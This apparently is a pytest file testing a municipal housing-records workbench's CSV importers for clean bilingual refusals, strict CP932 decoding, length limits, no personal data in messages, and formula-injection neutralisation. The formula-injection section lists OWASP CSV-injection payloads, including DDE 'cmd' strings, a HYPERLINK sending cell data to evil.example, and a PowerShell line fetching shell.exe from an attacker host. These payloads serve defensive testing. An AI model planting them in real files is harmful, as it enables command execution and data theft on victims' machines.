"""Hostile input (issue 10, items 9–14): every importer refuses malformed files with a line and a
reason in Japanese and English — never a traceback, never a field value in the message; CP932 only
when it decodes cleanly; every field has a maximum; every CSV a person may open is neutralised
against spreadsheet formulas; re-applying an older target list is said and done only on purpose."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.direct_load import load_world
from workbench.cli import main
from workbench.cli._common import jsonable
from workbench.core import approvals
from workbench.core.errors import InvalidInput, WorkbenchError
from workbench.files import formats, media, transfer
from workbench.intake import collection, integrated, registration, targets
from workbench.queries import procedures
from workbench.queries.discrepancies import DECLARED_INCOME, import_declared_income
from workbench.simulate.housing import target_frame
from workbench.simulate.world import generate_world

from .conftest import PASSWORD, StaffedWorkspace

#: The CSV layouts files are imported in (directly or inside a package).
IMPORTED = ("housing_targets", "contractor_return", "portal_download", "integrated_answer", "housing_procedures",
            "juki_answer", DECLARED_INCOME)


def _name(layout: Any) -> str:
    return layout if isinstance(layout, str) else layout.name


@pytest.fixture(scope="module")
def pop() -> Any:
    return generate_world(60, seed=23)


def _sample(layout: Any, pop: Any, rows: int = 3) -> pd.DataFrame:
    """A few rows of a layout filled from the synthetic population."""
    lay = formats.get_layout(layout)
    p = pop.persons.head(rows).reset_index(drop=True)
    birth = pd.to_datetime(p["birth_date"]).dt.strftime("%Y-%m-%d")
    values = {
        "person_id": p["person_id"], "household_id": p["household_id"], "relation": "本人", "name": p["name"],
        "kana": p["kana"], "sex": p["sex"].astype(str), "birth_date": birth, "address": p["address"],
        "ward_code": "13121", "housing_type": "都営住宅", "status": "resident", "phone": "",
        "line_no": [str(i + 1) for i in range(rows)], "individual_number": p["individual_number"],
        "identity_checked": "1", "collected_on": "2026-05-01", "submission_id": [f"S{i:05d}" for i in range(rows)],
        "submitted_at": "2026-05-01T10:00:00+09:00", "request_id": [f"Q{i:07d}" for i in range(rows)],
        "result_code": "00", "integrated_number": "123456789012345", "answered_at": "", "procedure_id": "A-1",
        "procedure_code": "P1", "fiscal_year": "2026", "filed_on": "2026-04-01", "applicant_id": p["person_id"].iloc[0],
        "consent": "Y", "deceased": "0", "declared_income": "1200000",
    }
    return pd.DataFrame({c: values[c] for c in lay.names}, index=range(rows))


def _valid(layout: Any, pop: Any, eol: str = "\r\n") -> bytes:
    data = formats.write_table(_sample(layout, pop), layout)
    return data.replace(b"\r\n", eol.encode())


def _refused(data: bytes, layout: Any) -> InvalidInput:
    with pytest.raises(InvalidInput) as info:
        formats.read_table(data, layout)
    err = info.value
    assert err.message_ja and err.message_en and err.message_ja != err.message_en
    return err


# ------------------------------------------------------------------------------ 9: line ends
@pytest.mark.parametrize("layout", IMPORTED, ids=_name)
def test_cr_only_line_ends_refused_with_line(layout: Any, pop: Any) -> None:
    data = _valid(layout, pop, eol="\r")
    err = _refused(data, layout)
    assert err.details["reason"] == "bare_cr" and err.details["line"] == 1
    assert "CR" in err.message_en and "改行" in err.message_ja


@pytest.mark.parametrize("layout", IMPORTED, ids=_name)
def test_stray_cr_in_header_or_row_refused(layout: Any, pop: Any) -> None:
    data = _valid(layout, pop)
    head, rest = data.split(b"\r\n", 1)
    cut = head.index(b",")
    err = _refused(head[:cut] + b"\r" + head[cut:] + b"\r\n" + rest, layout)
    assert err.details["reason"] == "bare_cr" and err.details["line"] == 1
    lines = data.split(b"\r\n")
    lines[2] = lines[2][:3] + b"\r" + lines[2][3:]
    err = _refused(b"\r\n".join(lines), layout)
    assert err.details["reason"] == "bare_cr" and err.details["line"] == 3


def test_cr_only_file_through_the_cli_is_a_clear_refusal(world: StaffedWorkspace, pop: Any, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "targets.csv"
    path.write_bytes(_valid("housing_targets", pop, eol="\r"))
    code, out, err = _cli(world, monkeypatch, capsys, "registrar", "targets", "import", str(path))
    assert code == 2 and not out
    refusal = json.loads(err)
    assert refusal["reason"] == "bare_cr" and refusal["line"] == 1 and "Traceback" not in err


_NOISE = st.sampled_from([b"\r", b"\n", b"\r\n", b'"', b",", b"\x00", b"\xff", b"\x81", b"\xef\xbb\xbf", b"=", b"\t",
                          b"\xe3\x81", "髙".encode(), b" ", b'""', b"x" * 300])


@settings(max_examples=200, deadline=None, derandomize=True)
@given(layout=st.sampled_from(IMPORTED), seed=st.integers(0, 2**16), edits=st.lists(st.tuples(st.floats(0, 1), _NOISE, st.integers(0, 3)), max_size=6),
       cut=st.none() | st.floats(0, 1))
def test_fuzz_csv_readers_refuse_cleanly(layout: Any, seed: int, edits: list[tuple[float, bytes, int]], cut: float | None) -> None:
    """Mangled files are either read or refused with InvalidInput naming a reason — never anything else."""
    pop = _FUZZ_POP
    data = bytearray(_valid(layout, pop))
    for where, noise, drop in edits:
        at = int(where * len(data))
        data[at:at + drop] = noise
    if cut is not None:
        data = data[: int(cut * len(data))]
    try:
        table = formats.read_table(bytes(data), layout)
    except InvalidInput as err:
        assert err.details.get("reason"), err
        assert err.message_ja and err.message_en
        _assert_no_value(str(err) + json.dumps(err.to_dict(), ensure_ascii=False), pop)
        return
    assert table.rows >= 1 and len(table.lines) == table.rows
    assert all(len(v) <= c.max_length for c in table.layout.columns for v in table.frame[c.name])


_FUZZ_POP = generate_world(20, seed=5)


@settings(max_examples=150, deadline=None, derandomize=True)
@given(data=st.binary(max_size=400), layout=st.sampled_from(IMPORTED))
def test_fuzz_arbitrary_bytes_refused_cleanly(data: bytes, layout: Any) -> None:
    """Any bytes at all, behind a valid header or not: read, or refused with a reason."""
    for candidate in (data, formats.write_table(_sample(layout, _FUZZ_POP).head(0), layout) + data):
        try:
            formats.read_table(candidate, layout)
        except InvalidInput as err:
            assert err.details.get("reason") and err.message_ja and err.message_en


@settings(max_examples=100, deadline=None, derandomize=True)
@given(edits=st.lists(st.tuples(st.floats(0, 1), st.sampled_from([b"\r", b"\n", b",", b"\xff", b" ", b"\r\n", b"x"])), max_size=4))
def test_fuzz_fixed_width_answers_refused_cleanly(edits: list[tuple[float, bytes]]) -> None:
    """The fixed-width answer files (F4) too: read, or refused with a line and reason."""
    from workbench.files import query_files

    layout = query_files.ANSWER_LAYOUT
    frame = pd.DataFrame({f.name: ["1" * min(f.width, 3)] * 3 for f in layout.fields})
    data = bytearray(query_files.write_fixed(frame, layout))
    for where, noise in edits:
        at = int(where * len(data))
        data[at:at + 1] = noise
    try:
        query_files.read_fixed(bytes(data), layout)
    except InvalidInput as err:
        assert err.details.get("reason") and err.details.get("line", 1) >= 1


_SESSIONS: dict[tuple[int, str], Any] = {}


@settings(max_examples=30, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(kind=st.sampled_from(["targets", "contractor", "portal", "procedures"]),
       value=st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40),
       column=st.integers(0, 20))
def test_fuzz_importers_never_crash(world: StaffedWorkspace, kind: str, value: str, column: int) -> None:
    """A field holding anything at all is accepted or refused cleanly by the importer itself."""
    pop = _FUZZ_POP
    layout = {"targets": "housing_targets", "contractor": "contractor_return", "portal": "portal_download",
              "procedures": "housing_procedures"}[kind]
    frame = _sample(layout, pop)
    col = frame.columns[column % len(frame.columns)]
    frame.loc[1, col] = value
    data = formats.write_table(frame, layout)
    user = "registrar" if kind != "procedures" else "query_operator"
    s = _SESSIONS.get((id(world), user))
    if s is None:
        s = _SESSIONS[(id(world), user)] = world.login(user)
    try:
        if kind == "targets":
            targets.preview_targets(s, data, file_name="f.csv")
        elif kind in ("contractor", "portal"):
            registration.preview_registration(s, data, source="contractor" if kind == "contractor" else "portal",
                                              file_name="f.csv")
        else:
            procedures.import_procedures(s, data, file_name="f.csv")
    except WorkbenchError as err:
        assert err.message_ja and err.message_en
        _assert_no_value(str(err) + json.dumps(err.to_dict(), ensure_ascii=False), pop)


# ------------------------------------------------------------------------------ 10: CP932 strictly
def test_ascii_with_one_ff_byte_is_refused_with_offset(pop: Any) -> None:
    good = _valid("contractor_return", pop)
    at = good.index(b"\r\n") + 6
    data = good[:at] + b"\xff" + good[at:]
    err = _refused(data, "contractor_return")
    assert err.details["reason"] == "undecodable" and err.details["byte_offset"] == at and err.details["line"] == 2
    assert str(at) in err.message_en and str(at) in err.message_ja


@pytest.mark.parametrize("raw", [b"\xf0\x40", b"\xf9\xfc", b"\x80", b"\xa0", b"\xfd"], ids=["user-defined", "user-defined-end", "0x80", "0xa0", "0xfd"])
def test_cp932_private_use_or_unassigned_refused(raw: bytes, pop: Any) -> None:
    good = _valid("housing_targets", pop).decode("utf-8").encode("cp932")
    at = good.index(b"\r\n") + 4
    err = _refused(good[:at] + raw + good[at:], "housing_targets")
    assert err.details["reason"] == "undecodable" and err.details["byte_offset"] == at and err.details["line"] == 2


def test_every_cp932_character_outside_the_suspect_set_is_assigned() -> None:
    """The whole CP932 code table: what the strict check lets through is an assigned, non-private character."""
    import unicodedata

    for first in range(0x100):
        for second in [None, *range(0x40, 0x100)] if first >= 0x81 else [None]:
            raw = bytes([first]) if second is None else bytes([first, second])
            try:
                ch = raw.decode("cp932")
            except UnicodeDecodeError:
                continue
            if len(ch) != 1:
                continue
            text, _ = formats._cp932_strict(raw)
            if text is not None:
                assert unicodedata.category(ch) not in ("Cn", "Co"), raw
                assert not ("\x80" <= ch <= "\x9f"), raw


def test_real_cp932_still_accepted(pop: Any) -> None:
    data = _valid("housing_targets", pop).decode("utf-8").replace("本人", "髙①").encode("cp932")
    table = formats.read_table(data, "housing_targets")
    assert table.encoding == "cp932" and table.frame["relation"].iloc[0] == "髙①"


# ------------------------------------------------------------------------------ 11: formula injection
#: The OWASP "CSV Injection" payloads and their variants (https://owasp.org/www-community/attacks/CSV_Injection).
OWASP = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"詳細\")", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "-1-1", "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0", "@cmd", "＝1+1", "=IMPORTXML(CONCAT(\"http://x/?\", A1), \"//a\")",
]
#: First characters that make a spreadsheet read a cell as a formula.
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _cells(data: bytes) -> list[str]:
    import csv

    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_neutraliser_on_owasp_list() -> None:
    for payload in OWASP:
        safe = formats.spreadsheet_safe(payload)
        assert not safe.startswith(_TRIGGERS), payload
        assert safe.endswith(payload[1:])
    for plain in ("東京都足立区", "P0001", "", "0123", "2026-05-01", "-1200", "+3.5"):
        assert formats.spreadsheet_safe(plain) == plain


def test_every_layout_people_open_is_neutralised() -> None:
    from workbench.queries.discrepancies import NOTICE_LAYOUT
    from workbench.queries.linkage_file import LINKAGE_LAYOUT

    people = [*(lay for lay in formats.LAYOUTS.values() if lay.for_people), NOTICE_LAYOUT, LINKAGE_LAYOUT]
    assert {lay.name for lay in people} == {"collection_list", "return_list", "notice_list", "linkage_file"}
    assert all(lay.for_people for lay in people)
    for lay in people:
        frame = pd.DataFrame({n: (OWASP * 40)[i:i + len(OWASP)] for i, n in enumerate(lay.names)})
        cells = _cells(formats.write_table(frame, lay, encoding="utf-8-sig"))
        assert not [c for c in cells if c.startswith(_TRIGGERS)], lay.name


def test_collection_list_and_return_list_are_neutralised(world: StaffedWorkspace) -> None:
    pop = generate_world(40, seed=3)
    persons = pop.persons.copy()
    persons.loc[: len(OWASP) - 1, "name"] = [p.replace("\t", "").replace("\r", "") or "=1" for p in OWASP]
    persons.loc[: len(OWASP) - 1, "address"] = OWASP
    load_world(world.ws, persons, pop.households, registered=np.zeros(len(persons), dtype=bool))
    s = world.login("registrar")
    a = collection.request_collection_export(s)
    approvals.decide(world.login("approver"), a.approval_id, approve=True)
    result = collection.export_collection(world.login("registrar"), approval_id=a.approval_id)
    key, _ = media.recipient_key(world.ws, "collection_contractor")
    body = transfer.read_package(result.path, key=key).members[collection.MEMBER_NAME]
    cells = _cells(body)
    assert not [c for c in cells if c.startswith(_TRIGGERS)]
    assert "'=cmd|' /C calc'!A0" in cells
    # the return list: person IDs from the contractor's file are echoed back
    rows = [{"person_id": p, "individual_number": "123456789012", "identity_checked": "1", "collected_on": "2026-05-01"}
            for p in ("=cmd|'/C calc'!A0", "@SUM(1+1)", "-2+3+cmd|'/C c'!A0", "+1+1")]
    data = formats.write_table(pd.DataFrame(rows), "contractor_return")
    summary = registration.register(world.login("registrar"), data, source="contractor", file_name="r.csv")
    assert summary.return_list_path
    package = transfer.read_package(Path(summary.return_list_path), key=key)
    cells = _cells(package.members["return_list.csv"])
    assert not [c for c in cells if c.startswith(_TRIGGERS)]
    assert "'=cmd|'/C calc'!A0" in cells and "'+1+1" in cells


# ------------------------------------------------------------------------------ 12: no values in messages
def _population_strings(pop: Any) -> list[str]:
    p = pop.persons
    birth = pd.to_datetime(p["birth_date"])
    found: list[str] = []
    for col in ("individual_number", "name", "kana", "address", "person_id", "household_id"):
        found += [str(v) for v in p[col] if isinstance(v, str) and v]
    for fmt in ("%Y-%m-%d", "%Y%m%d", "%Y/%m/%d"):
        found += birth.dt.strftime(fmt).tolist()
    # the parts of a name or address too (family name, given name, block)
    for col, shortest in (("name", 2), ("kana", 4), ("address", 2)):
        found += [part for v in p[col] for part in re.split(r"[\s\u3000]+", str(v)) if len(part) >= shortest]
    return sorted(set(found), key=len, reverse=True)


def _assert_no_value(text: str, pop: Any, *, ids: bool = True) -> None:
    strings = _POP_STRINGS.get(id(pop))
    if strings is None:
        strings = _POP_STRINGS[id(pop)] = _population_strings(pop)
    leaked = [s for s in strings if s in text and (ids or not re.fullmatch(r"[PH]\d+", s))]
    assert not leaked, f"personal data in output: {leaked[:5]}"


_POP_STRINGS: dict[int, list[str]] = {}


def _malformations(layout: Any, pop: Any) -> dict[str, bytes]:
    """Several ways a data supplier gets a file wrong, all built from the population's data."""
    good = _valid(layout, pop)
    lines = good.split(b"\r\n")
    header = lines[0].split(b",")
    out = {
        "no_header": b"\r\n".join(lines[1:]),
        "header_typo": b"\r\n".join([b",".join([header[0] + b"x", *header[1:]]), *lines[1:]]),
        "extra_column": b"\r\n".join([lines[0] + b",extra", *(ln + b"," + ln.split(b",")[1] for ln in lines[1:-1]), b""]),
        "short_row": b"\r\n".join([lines[0], lines[1], b",".join(lines[2].split(b",")[:-2]), *lines[3:]]),
        "long_row": b"\r\n".join([lines[0], lines[1] + b"," + lines[1].split(b",")[1], *lines[2:]]),
        "cr_only": good.replace(b"\r\n", b"\r"),
        "ff_byte": good[:-6] + b"\xff" + good[-6:],
        "open_quote": good[:-2] + b'"',
        "too_long": b"\r\n".join([lines[0], lines[1].replace(b",", b"," + "髙".encode() * 400, 1), *lines[2:]]),
        "values_shifted": b"\r\n".join([lines[0], *(b",".join(reversed(ln.split(b","))) for ln in lines[1:-1]), b""]),
    }
    return out


def _cli(world: StaffedWorkspace, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], user: str, *argv: str) -> tuple[int, str, str]:
    world.clock.advance(30)
    monkeypatch.setenv("WORKBENCH_USER", user)
    monkeypatch.setenv("WORKBENCH_PASSWORD", PASSWORD)
    monkeypatch.setenv("WORKBENCH_TOTP", world.code(user))
    from workbench.core import clock as clock_module

    monkeypatch.setattr(clock_module, "SystemClock", lambda: world.clock)
    monkeypatch.setattr("workbench.core.workspace.SystemClock", lambda: world.clock)
    code = main(["-w", str(world.ws.path), *argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_no_importer_quotes_a_field_value(world: StaffedWorkspace, pop: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    """Files made of the population's data, malformed every way, through every importer's CLI command:
    stdout, stderr, the audit log and the return lists hold no number, name, address or birth date."""
    commands = {
        "housing_targets": ("registrar", ["targets", "import"]),
        "contractor_return": ("registrar", ["register", "--source", "contractor"]),
        "portal_download": ("registrar", ["register", "--source", "portal"]),
        "housing_procedures": ("query_operator", ["procedures", "import"]),
        "integrated_answer": ("registrar", ["integrated", "import"]),
        DECLARED_INCOME.name: ("query_operator", ["discrepancies", "declared-income"]),
    }
    services: dict[str, Any] = {
        "housing_targets": lambda s, d: targets.import_targets(s, d, file_name="f.csv"),
        "contractor_return": lambda s, d: registration.register(s, d, source="contractor", file_name="f.csv"),
        "portal_download": lambda s, d: registration.register(s, d, source="portal", file_name="f.csv"),
        "housing_procedures": lambda s, d: procedures.import_procedures(s, d, file_name="f.csv"),
        "integrated_answer": lambda s, d: integrated.import_integrated_answers(s, d),
        DECLARED_INCOME.name: lambda s, d: import_declared_income(s, d, file_name="f.csv"),
    }
    output: list[str] = []
    refusals = 0
    for layout_name, (user, argv) in commands.items():
        layout = DECLARED_INCOME if layout_name == DECLARED_INCOME.name else layout_name
        session = world.login(user)
        for n, (case, data) in enumerate(_malformations(layout, pop).items()):
            if n < 2:  # the command line, stdout and stderr, for some
                path = tmp_path / f"{layout_name}-{case}.csv"
                path.write_bytes(data)
                code, out, err = _cli(world, monkeypatch, capsys, user, *argv, str(path))
                assert "Traceback" not in err, (layout_name, case)
                if code != 0:
                    refusals += 1
                    refusal = json.loads(err)
                    assert refusal["message_ja"] and refusal["message_en"], (layout_name, case)
                output += [out, err]
                continue
            try:  # the service itself, for the rest
                output.append(json.dumps(jsonable(services[layout_name](session, data)), ensure_ascii=False))
            except WorkbenchError as err:
                refusals += 1
                assert err.message_ja and err.message_en, (layout_name, case)
                output += [str(err), json.dumps(err.to_dict(), ensure_ascii=False)]
    assert refusals >= 50
    with world.ws.transaction("test.read", "test") as con:
        output += [p for (p,) in con.execute("SELECT params FROM audit_log").fetchall()]
    _assert_no_value("\n".join(output), pop)
    # the return lists written, decrypted, hold reasons and IDs only
    key, _ = media.recipient_key(world.ws, "collection_contractor")
    for package_path in world.ws.folder("return_lists").glob("*.wbpkg"):
        for body in transfer.read_package(package_path, key=key).members.values():
            _assert_no_value(body.decode("utf-8-sig"), pop, ids=False)


def test_headerless_portal_file_names_no_value(pop: Any) -> None:
    data = b"\r\n".join(_valid("portal_download", pop).split(b"\r\n")[1:])
    err = _refused(data, "portal_download")
    assert err.details["reason"] == "bad_header" and err.details["line"] == 1
    assert "no header" in err.message_en and "見出し行がありません" in err.message_ja
    _assert_no_value(str(err) + json.dumps(err.to_dict(), ensure_ascii=False), pop)


def test_header_typo_suggests_the_column_not_the_value(pop: Any) -> None:
    data = _valid("housing_targets", pop).replace(b"phone", b"telephone", 1)
    err = _refused(data, "housing_targets")
    assert err.details["extra_positions"] == [12] and "phone" in err.message_en and "telephone" not in str(err)


# ------------------------------------------------------------------------------ 13: length limits
def test_every_column_of_every_layout_has_a_maximum() -> None:
    for lay in [*formats.LAYOUTS.values(), DECLARED_INCOME]:
        for col in lay.columns:
            assert 1 <= col.max_length <= 1000, (lay.name, col.name)
    assert formats.LAYOUTS["housing_targets"].column("person_id").max_length == 20


@pytest.mark.parametrize("layout,column", [("housing_targets", "name"), ("contractor_return", "person_id"),
                                           ("portal_download", "address"), ("integrated_answer", "request_id"),
                                           ("housing_procedures", "procedure_id"), ("juki_answer", "name")])
def test_five_megabyte_field_refused_with_line(layout: str, column: str, pop: Any) -> None:
    frame = _sample(layout, pop)
    frame.loc[1, column] = "髙" * (5 * 1024 * 1024 // 3)
    err = _refused(formats.write_table(frame, layout), layout)
    assert err.details["reason"] == "too_long" and err.details["line"] == 3 and err.details["column"] == column
    limit = formats.get_layout(layout).column(column).max_length
    assert err.details["max_length"] == limit and str(limit) in err.message_en and str(limit) in err.message_ja
    assert "髙髙" not in str(err)


def test_five_megabyte_person_id_makes_no_return_list(world: StaffedWorkspace) -> None:
    rows = [{"person_id": "P" * (5 * 1024 * 1024), "individual_number": "123456789012", "identity_checked": "1",
             "collected_on": "2026-05-01"}]
    with pytest.raises(InvalidInput) as info:
        registration.register(world.login("registrar"), formats.write_table(pd.DataFrame(rows), "contractor_return"),
                               source="contractor", file_name="r.csv")
    assert info.value.details["reason"] == "too_long" and info.value.details["line"] == 2
    assert not list(world.ws.folder("return_lists").iterdir())


def test_whole_file_size_and_record_count_limits(pop: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    data = _valid("housing_targets", pop)
    monkeypatch.setattr(formats, "MAX_FILE_BYTES", len(data) - 1)
    err = _refused(data, "housing_targets")
    assert err.details["reason"] == "too_large" and err.details["max_bytes"] == len(data) - 1
    monkeypatch.setattr(formats, "MAX_FILE_BYTES", 1 << 30)
    monkeypatch.setattr(formats, "MAX_RECORDS", 2)
    err = _refused(data, "housing_targets")
    assert err.details["reason"] == "too_many_records" and err.details["line"] == 4


# ------------------------------------------------------------------------------ 14: older target list
def test_reapplying_an_older_target_list_is_said_and_done_on_purpose(world: StaffedWorkspace, tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    pop = generate_world(50, seed=9)
    frame = target_frame(pop, seed=1, date_format="%Y-%m-%d")
    old = formats.write_table(frame, "housing_targets")
    new = formats.write_table(frame.iloc[5:], "housing_targets")
    s = world.login("registrar")
    first = targets.import_targets(s, old, file_name="april.csv")
    second = targets.import_targets(s, new, file_name="may.csv")
    assert second.unlisted == 5
    again = targets.import_targets(s, old, file_name="april.csv")
    assert not again.applied and again.already_imported and again.superseded_by == second.import_id
    assert again.import_id == first.import_id and again.current_import_id == second.import_id
    assert "may.csv" in again.message_en and "older" in again.message_en and "--reapply" in again.message_en
    assert "may.csv" in again.message_ja and "古い" in again.message_ja
    with world.ws.transaction("t", "t") as con:
        assert con.execute("SELECT count(*) FROM persons WHERE NOT listed").fetchone() == (5,)
    # the latest list itself again: unchanged, as before
    same = targets.import_targets(s, new, file_name="may.csv")
    assert same.already_imported and same.superseded_by is None and "取込済み" in same.message_ja
    # deliberately: the older list becomes the current one again
    path = tmp_path / "april.csv"
    path.write_bytes(old)
    code, out, err = _cli(world, monkeypatch, capsys, "registrar", "targets", "import", str(path), "--reapply")
    assert code == 0, err
    done = json.loads(out)
    assert done["applied"] and done["reapplied"] and done["relisted"] == 5 and done["import_id"] == first.import_id
    with world.ws.transaction("t", "t") as con:
        assert con.execute("SELECT count(*) FROM persons WHERE NOT listed").fetchone() == (0,)
    assert targets.import_targets(world.login("registrar"), old, file_name="april.csv").superseded_by is None
    # now the May list is the older one
    back = targets.import_targets(world.login("registrar"), new, file_name="may.csv")
    assert back.superseded_by == first.import_id and not back.applied
    # --reapply of a list never imported is simply an import; of the current one, a no-op
    assert targets.import_targets(world.login("registrar"), old, file_name="april.csv", reapply=True).already_imported


def test_cli_refuses_an_oversized_file_before_reading_it(world: StaffedWorkspace, pop: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "big.csv"
    path.write_bytes(_valid("contractor_return", pop))
    monkeypatch.setattr(formats, "MAX_FILE_BYTES", 100)
    whole = Path.read_bytes  # the command logs in first (its refusal is audited), then refuses before reading
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("read the whole file") if self == path else whole(self))
    code, _out, err = _cli(world, monkeypatch, capsys, "registrar", "register", str(path), "--source", "contractor")
    assert code == 2 and json.loads(err)["reason"] == "too_large"
